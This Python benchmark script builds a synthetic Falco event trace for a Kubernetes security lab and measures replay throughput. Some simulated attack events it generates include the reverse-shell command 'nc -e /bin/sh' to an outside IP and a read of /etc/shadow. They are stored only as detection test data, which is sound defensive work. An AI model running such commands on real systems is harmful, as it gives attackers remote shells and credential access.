"""Falco replay throughput: a 200k-event trace against the lab's default ruleset.

Run: python bench/bench_falco_replay.py [EVENTS] [--runs N]   (goal: >= 200k events/s)

Two rulesets: the default file as shipped (only the rules a real node runs by
default are enabled) and the same with every rule enabled, by a second rules file
overriding `enabled` the way a learner would (`override: {enabled: replace}`, the
form Falco 0.44 takes without a deprecation warning).

The trace is generated here, with a fixed seed, in the shape `cks-lab falco import`
writes (sysdig -j: compact JSON, keys sorted, exit events only, null = not
available). The mix is a busy node's: mostly reads, writes and other syscalls no
rule watches, a quarter file opens, program starts, connects; 2 % of those are
attacks the default rules catch (a shell in a container, a netcat reverse shell,
/etc/shadow read, a log truncated, the API server contacted from an app pod).
"""

from __future__ import annotations

import json
import os
import random
import re
import resource
import statistics
import subprocess
import sys
import tempfile
import time
from collections import Counter
from collections.abc import Callable
from pathlib import Path
from typing import Any

from lab.engines.falco.engine import Ruleset, load_rules
from lab.engines.falco.tools import read_rules_files, replay

RULES = Path(__file__).resolve().parents[1] / "lab/assets/falco/falco_rules.yaml"

Event = dict[str, Any]

CONTAINERS = [  # (container id, name, image repository, namespace, pod, main process)
    ("3ad7b26ded6d", "web", "nginx", "shop", "web-7d9c5f6b8-x2xkq", "nginx"),
    ("9f1c0e2ab344", "api", "python", "shop", "api-5c6d7f8b9-qw8rt", "gunicorn"),
    ("51be7a0c9d12", "db", "postgres", "shop", "db-0", "postgres"),
    ("c0ffee123456", "redis", "redis", "cache", "redis-0", "redis-server"),
]
HOST = ("host", "host", None, None, None, "systemd")

LIBS = ["/etc/ld.so.cache", "/lib/x86_64-linux-gnu/libc.so.6", "/lib/x86_64-linux-gnu/libm.so.6",
        "/usr/lib/x86_64-linux-gnu/libssl.so.3", "/usr/share/zoneinfo/UTC",
        "/proc/self/status", "/proc/meminfo", "/sys/fs/cgroup/cpu.max",
        "/etc/nginx/nginx.conf", "/var/lib/postgresql/data/base/16384/2619",
        "/etc/hosts", "/etc/resolv.conf", "/etc/passwd", "/etc/nsswitch.conf"]
WRITES = ["/tmp/upload-8812.part", "/var/log/nginx/access.log", "/var/lib/redis/dump.rdb",
          "/dev/null", "/var/lib/postgresql/data/pg_wal/000000010000000000000001",
          "/run/nginx.pid"]
PROGRAMS = [("sh", "sh -c date"), ("date", "date"), ("python3", "python3 manage.py check"),
            ("python3", "python3 /app/healthcheck.py"), ("cat", "cat /proc/loadavg"),
            ("pg_isready", "pg_isready -q"), ("redis-cli", "redis-cli ping"),
            ("nginx", "nginx -s reload"), ("ls", "ls /app"), ("grep", "grep -q ok /tmp/s")]
OTHER_TYPES = ["read", "write", "close", "fstat", "mmap", "futex", "epoll_wait", "recvfrom",
               "sendto", "brk", "lseek", "poll", "getdents64", "munmap", "nanosleep"]
DESTINATIONS = [("10.96.0.10", 53, "udp"), ("10.244.1.7", 5432, "tcp"),
                ("10.244.2.3", 6379, "tcp"), ("172.18.0.1", 443, "tcp"),
                ("52.216.8.11", 443, "tcp"), ("140.82.112.4", 443, "tcp")]


class Node:
    """Makes events as one node would see them: one process table, growing evt.num."""

    def __init__(self, seed: int) -> None:
        self.rnd = random.Random(seed)
        self.num = 1000
        self.time = 1_700_000_000_000_000_000

    def base(self, etype: str, where: tuple[Any, ...], proc: str, cmdline: str,
             tty: int = 0, parent: str = "containerd-shim", user: str = "root") -> Event:
        self.num += 2  # the enter event, dropped, had the number before
        self.time += self.rnd.randrange(2_000, 60_000)
        cid, cname, image, ns, pod, _ = where
        return {
            "container.id": cid, "container.image.repository": image, "container.name": cname,
            "evt.dir": "<", "evt.num": self.num, "evt.rawres": 0, "evt.res": "SUCCESS",
            "evt.time": self.time, "evt.type": etype, "k8s.ns.name": ns, "k8s.pod.name": pod,
            "proc.aname[2]": "containerd" if cid != "host" else "systemd",
            "proc.cmdline": cmdline, "proc.exepath": f"/usr/bin/{proc}", "proc.name": proc,
            "proc.pid": self.rnd.randrange(2, 60000), "proc.pname": parent, "proc.tty": tty,
            "user.loginuid": -1, "user.name": user, "user.uid": 0 if user == "root" else 1000,
        }

    def where(self) -> tuple[Any, ...]:
        return HOST if self.rnd.random() < 0.2 else self.rnd.choice(CONTAINERS)

    def execve(self, attack: bool) -> Event:
        where = self.where()
        if attack:
            where = self.rnd.choice(CONTAINERS)
            if self.rnd.random() < 0.5:  # kubectl exec -it POD -- bash
                return self.base("execve", where, "bash", "bash", tty=34816, parent="runc")
            return self.base("execve", where, "nc", "nc -e /bin/sh 45.9.148.35 4444",
                             parent="sh")
        proc, cmd = self.rnd.choice(PROGRAMS)
        # probes and `kubectl exec` without -t: started by the runtime, no terminal
        parent = "runc" if proc == "sh" else where[5]
        return self.base("execve", where, proc, cmd, parent=parent)

    def openat(self, attack: bool) -> Event:
        where = self.where()
        proc = where[5]
        if attack:
            path, flags = self.rnd.choice([("/etc/shadow", "O_RDONLY"),
                                           ("/var/log/nginx/access.log", "O_WRONLY|O_TRUNC")])
            where, proc = self.rnd.choice(CONTAINERS), "cat"
        elif self.rnd.random() < 0.8:
            path, flags = self.rnd.choice(LIBS), "O_RDONLY|O_CLOEXEC"
        else:
            path, flags = self.rnd.choice(WRITES), "O_WRONLY|O_CREAT|O_APPEND"
        e = self.base("openat", where, proc, proc)
        directory, _, name = path.rpartition("/")
        e.update({"evt.arg.flags": flags, "evt.is_open_read": "O_RDONLY" in flags,
                  "evt.is_open_write": "O_WRONLY" in flags, "evt.rawres": 3,
                  "fd.directory": directory or "/", "fd.filename": name, "fd.name": path,
                  "fd.num": 3, "fd.typechar": "f", "fd.type": "file"})
        return e

    def connect(self, attack: bool) -> Event:
        where = self.rnd.choice(CONTAINERS)
        # the attack: a compromised app talking to the API server with its token
        ip, port, proto = ("10.96.0.1", 443, "tcp") if attack else self.rnd.choice(
            DESTINATIONS)
        e = self.base("connect", where, "curl" if attack else where[5], where[5])
        e.update({"fd.cip": "10.244.1.9", "fd.cport": self.rnd.randrange(32768, 60999),
                  "fd.l4proto": proto, "fd.name": f"10.244.1.9:40112->{ip}:{port}",
                  "fd.sip": ip, "fd.sport": port, "fd.typechar": "4", "fd.type": "ipv4",
                  "evt.rawres": -115, "evt.res": "EINPROGRESS"})
        return e

    def other(self, attack: bool) -> Event:
        where = self.where()
        e = self.base(self.rnd.choice(OTHER_TYPES), where, where[5], where[5])
        e.update({"fd.num": self.rnd.randrange(0, 64), "evt.rawres": self.rnd.randrange(0, 4096)})
        return e


MIX: list[tuple[str, float]] = [("other", 0.55), ("openat", 0.27), ("execve", 0.1),
                                ("connect", 0.08)]
ATTACK_RATE = 0.02  # of the events rules watch


def make_trace(n: int, seed: int = 3) -> list[str]:
    node = Node(seed)
    makers: dict[str, Callable[[bool], Event]] = {
        "other": node.other, "openat": node.openat, "execve": node.execve,
        "connect": node.connect}
    kinds = [k for k, _ in MIX]
    weights = [w for _, w in MIX]
    rnd = random.Random(seed + 1)
    out = []
    for kind in rnd.choices(kinds, weights, k=n):
        attack = kind != "other" and rnd.random() < ATTACK_RATE
        out.append(json.dumps(makers[kind](attack), separators=(",", ":"), sort_keys=True))
    return out


class Sink:
    def __init__(self) -> None:
        self.bytes = 0

    def write(self, data: bytes) -> None:
        self.bytes += len(data)


class Timing:
    """Wall and CPU seconds of several runs. The goal is wall time; CPU time moves less
    with other load on a shared machine (the process waits less for a core)."""

    def __init__(self) -> None:
        self.wall: list[float] = []
        self.cpu: list[float] = []

    def rate(self, n: int, unit: str = "events/s") -> str:
        return (f"{n / min(self.wall):,.0f} {unit} best, {n / statistics.median(self.wall):,.0f} "
                f"median; by CPU time {n / min(self.cpu):,.0f} best")


def timed(fn: Callable[[], Any], runs: int) -> Timing:
    t = Timing()
    for _ in range(runs):
        wall, cpu = time.perf_counter(), time.process_time()
        fn()
        t.wall.append(time.perf_counter() - wall)
        t.cpu.append(time.process_time() - cpu)
    return t


def enable_every_rule(directory: Path) -> Path:
    """A local rules file turning every rule of the default file on, as a learner would."""
    names = re.findall(r"^- rule: (.+)$", RULES.read_text(), re.MULTILINE)
    path = directory / "enable_every_rule.yaml"
    path.write_text("".join(f"- rule: {name}\n  enabled: true\n  override:\n"
                            "    enabled: replace\n" for name in names))
    return path


def load(files: list[Path]) -> Ruleset:
    result = load_rules(read_rules_files(files))
    assert result.ruleset is not None, [str(p) for r in result.reports for p in r.problems]
    problems = [str(p) for r in result.reports for p in r.problems]
    assert not problems, problems  # not even a warning
    return result.ruleset


def json_decoder(env: dict[str, str]) -> str:
    if env.get("CKS_LAB_JSON") == "orjson":
        return "orjson (CKS_LAB_JSON=orjson)"
    return "json (standard library)"


def main() -> None:
    args = sys.argv[1:]
    runs = 5
    if "--runs" in args:
        i = args.index("--runs")
        runs = int(args[i + 1])
        del args[i : i + 2]
    n = int(args[0]) if args else 200_000
    start = time.perf_counter()
    lines = make_trace(n)
    print(f"trace: {n:,} events, {sum(map(len, lines)) / n:.0f} bytes/event (made in "
          f"{time.perf_counter() - start:.1f} s); {runs} runs of each measurement: best and "
          f"median (the machine may be shared: the median moves with its load)")
    try:
        import orjson  # type: ignore[import-not-found]  # noqa: F401
        decoders = [{}, {"CKS_LAB_JSON": "orjson"}]
    except ImportError:
        decoders = [{}]
    with tempfile.TemporaryDirectory() as tmp:
        trace = Path(tmp) / "trace.jsonl"
        trace.write_text("\n".join(lines) + "\n")
        every = enable_every_rule(Path(tmp))
        cmd = Command(Path(tmp), runs)
        start_up = cmd.startup([RULES])
        print(f"\nstart-up and loading the default rules (a one-event trace): "
              f"{statistics.median(start_up.wall):.2f} s median, {min(start_up.wall):.2f} best, "
              f"{min(start_up.cpu):.2f} s CPU")
        reading_only(trace, n, runs)
        for label, files in (("the default ruleset as shipped", [RULES]),
                             ("every rule enabled", [RULES, every])):
            ruleset = load(files)
            enabled = sum(1 for r in ruleset.rules if r.enabled)
            print(f"\n== {label}: {enabled} of {len(ruleset.rules)} rules enabled "
                  f"({', '.join(f.name for f in files)})")
            engine_only(ruleset, lines[:50_000], runs)
            for env in decoders:
                in_process(ruleset, trace, n, runs, env)
            for env in decoders:
                for extra in ((), ("--json",)):
                    cmd.replay(files, trace, n, extra, env)


def in_process(ruleset: Ruleset, trace: Path, n: int, runs: int, env: dict[str, str]) -> None:
    stats = []

    def run() -> None:
        with open(trace, "rb") as fh:
            stats.append(replay(ruleset, fh, str(trace), Sink().write))

    saved = os.environ.get("CKS_LAB_JSON")
    os.environ.pop("CKS_LAB_JSON", None)
    os.environ.update(env)
    try:
        timing = timed(run, runs)
    finally:
        os.environ.pop("CKS_LAB_JSON", None)
        if saved is not None:
            os.environ["CKS_LAB_JSON"] = saved
    assert stats[-1].events == n
    top = ", ".join(f"{r}: {c}" for r, c in stats[-1].by_rule.most_common(5))
    print(f"replay() in-process, JSON in, text out, {json_decoder(env)}: "
          f"{timing.rate(n)}\n    {stats[-1].alerts} alerts ({top})")


class Quiet:
    """A ruleset that watches every event type and never alerts: what reading costs."""

    def rules_for(self, evt_type: str) -> list[str]:
        return ["all"]

    def process(self, event: Any, **_: Any) -> list[Any]:
        return []


def reading_only(trace: Path, n: int, runs: int) -> None:
    def run() -> None:
        with open(trace, "rb") as fh:
            replay(Quiet(), fh, str(trace), Sink().write)  # type: ignore[arg-type]

    print(f"replay() reading and parsing every line, no rules, json (standard library): "
          f"{timed(run, runs).rate(n, 'lines/s')}")


def engine_only(ruleset: Ruleset, lines: list[str], runs: int) -> None:
    """Ruleset.process on events already parsed: what the engine itself costs."""
    events = [json.loads(line) for line in lines]
    fired: Counter[str] = Counter()

    def run() -> None:
        fired.clear()
        for e in events:
            for a in ruleset.process(e):
                fired[a.rule] += 1

    print(f"Ruleset.process() alone, {len(events):,} parsed events: "
          f"{timed(run, runs).rate(len(events))}")


class Command:
    """The learner's command end to end: start-up, load the rules, read, match, print.

    Run as `python -c 'from lab.cli import main; main()'` on this checkout (what the
    cks-lab script does), so an older installed copy is not what gets measured; with
    the lab's bytecode cached (in a temporary directory), as a pip install has it.
    """

    def __init__(self, tmp: Path, runs: int) -> None:
        self.runs = runs
        root = str(Path(__file__).resolve().parents[1])
        self.env = {**os.environ, "PYTHONPATH": root, "PYTHONPYCACHEPREFIX": str(tmp / "pyc")}
        self.env.pop("PYTHONDONTWRITEBYTECODE", None)
        self.env.pop("CKS_LAB_JSON", None)
        self.one = tmp / "one.jsonl"
        self.one.write_text('{"evt.type":"execve","proc.name":"true"}\n')

    def run(self, files: list[Path], trace: Path, extra: tuple[str, ...] = (),
            env: dict[str, str] | None = None, timing: Timing | None = None) -> None:
        argv = [sys.executable, "-c", "import sys; from lab.cli import main; sys.exit(main())",
                "falco", "replay", *(a for f in files for a in ("--rules", str(f))), str(trace),
                "-q", *extra]
        before = resource.getrusage(resource.RUSAGE_CHILDREN)
        start = time.perf_counter()
        subprocess.run(argv, stdout=subprocess.DEVNULL, check=True, env={**self.env, **(env or {})})
        wall = time.perf_counter() - start
        after = resource.getrusage(resource.RUSAGE_CHILDREN)
        if timing is not None:
            timing.wall.append(wall)
            timing.cpu.append(after.ru_utime + after.ru_stime - before.ru_utime - before.ru_stime)

    def startup(self, files: list[Path]) -> Timing:
        self.run(files, self.one)  # writes the bytecode cache
        timing = Timing()
        for _ in range(self.runs):
            self.run(files, self.one, timing=timing)
        return timing

    def replay(self, files: list[Path], trace: Path, n: int, extra: tuple[str, ...],
               env: dict[str, str]) -> None:
        timing = Timing()
        for _ in range(self.runs):
            self.run(files, trace, extra, env, timing)
        what = " ".join(("cks-lab falco replay", *extra))
        print(f"{what}, whole command, {json_decoder(env)}: "
              f"{statistics.median(timing.wall):.2f} s median ({min(timing.wall):.2f} best) = "
              f"{timing.rate(n)} [goal >= 200,000]")


if __name__ == "__main__":
    main()
